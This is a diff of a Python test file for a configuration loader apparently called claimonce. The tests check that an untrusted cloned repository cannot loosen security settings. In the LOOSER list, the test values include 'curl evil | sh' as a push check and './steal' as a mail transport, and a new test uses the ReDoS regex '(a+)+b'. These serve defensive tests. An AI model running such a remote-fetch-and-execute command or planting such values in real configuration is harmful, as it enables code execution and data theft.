@@ -16,20 +16,16 @@ Env = dict[str, str]
 # One value for each setting that a clone must not be able to set, next to what is there without it.
 LOOSER = [
     ("hook.deadline", '"50s"'),
-    ("hook.wait", '"10m"'),
     ("notify.mode", '"observe"'),
     ("notify.window", '"1h"'),
     ("notify.window", '"until-resolved"'),
     ("notify.ask_within", '"1m"'),
-    ("notify.near", "0.9"),
     ("git_push.mode", '"warn"'),
     ("git_push.update", '"merge"'),
     ("git_push.check", '"curl evil | sh"'),
     ("counter.mode", '"observe"'),
     ("mail.transport", '"./steal"'),
     ("mail.from", '"x@example.org"'),
-    ("uncertain.policy", '"resend"'),
-    ("uncertain.tell", '"x@example.org"'),
     ("state.path", '"here"'),
     ("state.shared", "true"),
     ("state.retention", '"1d"'),
@@ -42,8 +38,7 @@ LOOSER = [
 TIGHTER = [
     ("notify.window", '"48h"', 172800.0),
     ("notify.window", '"forever"', None),
-    ("notify.near", "0.1", 0.1),
-    ("hook.wait", '"10s"', 10.0),
+    ("counter.wait", '"10s"', 10.0),
     ("git_push.update", '"ff-only"', "ff-only"),
     ("git_push.wait", '"1h"', 3600.0),
     ("shell.gate_people", "true", True),
@@ -63,9 +58,9 @@ def at(loaded: Loaded, key: str) -> object:
 
 def test_without_a_word_the_table_holds(repo: Path, env: Env) -> None:
     settings = load(str(repo), env).settings
-    assert (settings.hook.deadline, settings.notify.window, settings.notify.near) == (5, 86400, 0.24)
+    assert (settings.hook.deadline, settings.notify.window, settings.counter.wait) == (5, 86400, 60)
     assert settings.git_push.mode == settings.notify.mode == settings.counter.mode == "enforce"
-    assert (settings.uncertain.policy, settings.state.retention) == ("hold", 90 * 86400)
+    assert (settings.git_push.update, settings.state.retention) == ("rebase", 90 * 86400)
     assert settings.plugins.folder == str(repo / ".claimonce/plugins")
 
 
@@ -77,23 +72,19 @@ def test_the_table_and_the_typed_settings_name_the_same_things() -> None:
 
 def test_every_layer_is_stronger_than_the_one_before(repo: Path, env: Env, user_file: Path) -> None:
     user_file.write_text(
-        '[notify]\nwindow = "1h"\n[git_push]\nwait = "1m"\n[counter]\nwait = "1m"\n[hook]\nwait = "1m"\n'
+        '[notify]\nwindow = "1h"\n[git_push]\nwait = "1m"\n[counter]\nwait = "1m"\n[hook]\ndeadline = "1s"\n'
     )
     (repo / "pyproject.toml").write_text(
-        '[tool.claimonce]\ngit_push.wait = "2m"\ncounter.wait = "2m"\nhook.wait = "2m"\n'
+        '[tool.claimonce]\ngit_push.wait = "2m"\ncounter.wait = "2m"\nhook.deadline = "2s"\n'
     )
-    (repo / "claimonce.toml").write_text('[counter]\nwait = "3m"\n[hook]\nwait = "3m"\n')
+    (repo / "claimonce.toml").write_text('[counter]\nwait = "3m"\n[hook]\ndeadline = "3s"\n')
     for name in ("pyproject.toml", "claimonce.toml"):
         trust.trust(str(repo / name), env=env)
-    loaded = load(str(repo), {**env, "CLAIMONCE_HOOK__WAIT": "4m"})
+    loaded = load(str(repo), {**env, "CLAIMONCE_HOOK__DEADLINE": "4s"})
     settings = loaded.settings
     assert loaded.notes == ()
-    assert (settings.notify.window, settings.git_push.wait, settings.counter.wait, settings.hook.wait) == (
-        3600,
-        120,
-        180,
-        240,
-    )
+    each = (settings.notify.window, settings.git_push.wait, settings.counter.wait, settings.hook.deadline)
+    assert each == (3600, 120, 180, 4)
 
 
 @pytest.mark.parametrize(("key", "value"), LOOSER)
@@ -209,6 +200,14 @@ def test_a_counter_that_leaves_the_repository_is_refused_with_a_note(
     assert "leaves the repository" in loaded.notes[0]
 
 
+def test_a_pattern_from_a_repository_that_nobody_trusted_is_not_obeyed(repo: Path, env: Env) -> None:
+    body = COUNTER.format("n.txt").replace("SP.next", "(a+)+b") + 'format = "regex"\n'
+    (repo / "claimonce.toml").write_text(body)
+    loaded = load(str(repo), env)
+    assert loaded.settings.counters == ()
+    assert "regular expression" in loaded.notes[0]
+
+
 def test_a_repository_cannot_move_a_counter_of_the_users(repo: Path, env: Env, user_file: Path) -> None:
     user_file.write_text(COUNTER.format("/srv/n.json"))
     (repo / "claimonce.toml").write_text(COUNTER.format("n.json"))
@@ -224,7 +223,12 @@ def test_a_repository_cannot_move_a_counter_of_the_users(repo: Path, env: Env, u
         ('name = ""', "name"),
         ("name = 3", "name"),
         ('path = "a..b"', "path"),
-        ('format = "toml"', "format"),
+        ('format = "xml"', "format"),
+        ('files = "../sp-{n}.md"', "files"),
+        ('files = "content/*.md"', "files"),
+        ('label = "SP"', "label"),
+        ('branches = "some"', "branches"),
+        ('front_matter = "sp"', "front_matter"),
     ],
 )
 def test_a_counter_that_makes_no_sense_is_an_error_with_its_key(repo: Path, env: Env, change: str, key: str) -> None:
@@ -272,10 +276,10 @@ def test_an_unknown_key_names_the_nearest_known_one(repo: Path, env: Env, body: 
         ("notify.window", "true"),
         ("notify.mode", '"Enforce!"'),
         ("notify.mode", '["enforce"]'),
-        ("notify.near", "true"),
-        ("notify.near", '"0.3"'),
-        ("notify.near", "1.5"),
-        ("notify.near", "nan"),
+        ("counter.wait", "nan"),
+        ("counter.wait", '"-1s"'),
+        ("counter.wait", '"2h"'),
+        ("state.retention", '"1h"'),
         ("state.shared", '"yes"'),
         ("plugins.disable", '"email"'),
         ("plugins.disable", "[1]"),
@@ -324,7 +328,7 @@ def test_a_pyproject_broken_by_others_is_none_of_ours(repo: Path, env: Env) -> N
     ("name", "text", "key", "value"),
     [
         ("CLAIMONCE_NOTIFY__WINDOW", "12h", "notify.window", 43200.0),
-        ("CLAIMONCE_NOTIFY__NEAR", "0.5", "notify.near", 0.5),
+        ("CLAIMONCE_COUNTER__WAIT", "500ms", "counter.wait", 0.5),
         ("CLAIMONCE_STATE__SHARED", "yes", "state.shared", True),
         ("CLAIMONCE_PLUGINS__DISABLE", "email, counter", "plugins.disable", ["email", "counter"]),
         ("CLAIMONCE_GIT_PUSH__MODE", "observe", "git_push.mode", "observe"),
